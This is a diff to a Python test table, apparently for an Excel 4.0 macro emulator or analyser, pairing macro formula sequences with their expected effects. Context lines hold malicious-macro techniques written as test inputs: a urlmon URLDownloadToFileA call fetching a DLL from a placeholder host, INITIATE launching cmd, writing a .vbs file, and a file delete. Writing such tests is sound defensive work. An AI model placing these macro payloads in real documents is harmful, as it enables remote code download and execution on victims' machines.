@@ -93,6 +93,8 @@ DOES: dict[str, tuple[list[str], str]] = {
     "later": (['ON.TIME(NOW()+1,"A3")', "HALT()", 'EXEC("b")'], "starts b"),
     "past an error": (["1/0", 'EXEC("b")'], "starts b"),
     "past what cannot be read": (["((", 'EXEC("b")'], "starts b"),
+    "past less than a function needs": (['SUBSTITUTE("a","b")', "BITXOR(1)", 'EXEC("b")'], "starts b"),
+    "past numbers without an end": (['TEXT(1E999,"00")', "ROUND(1E308,15)", 'EXEC("b")'], "starts b"),
     "past what nobody knows": (["WORKBOOK.HIDE(1)", 'EXEC("b")'], "starts b"),
     "a download": (
         ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/"&"a.dll","C:\\a.dll",0,0)'],
@@ -117,6 +119,10 @@ DOES: dict[str, tuple[list[str], str]] = {
     ),
     "a file": (['SET.VALUE(B1,FOPEN("C:\\a.vbs",3))', 'FWRITELN(B1,"x = 1")', "FCLOSE(B1)"], "writes C:\\a.vbs"),
     "a file that stays open": (['SET.VALUE(B1,FOPEN("C:\\a.vbs",3))', 'FWRITE(B1,"x = 1")'], "writes C:\\a.vbs"),
+    "the last of several files": (
+        ['FOPEN("C:\\a",3)', 'SET.VALUE(B1,FOPEN("C:\\b",3))', "FCLOSE(A1)", 'FOPEN("C:\\c",3)', 'FWRITE(B1,"x")'],
+        "writes C:\\b",
+    ),
     "a conversation": (['INITIATE("cmd","/c calc")'], "starts cmd /c calc"),
     "a workbook from its server": (['OPEN("http://a.example/a.xls")'], "fetches GET http://a.example/a.xls"),
     "deleted": (['FILE.DELETE("C:\\a.txt")'], "deletes C:\\a.txt"),
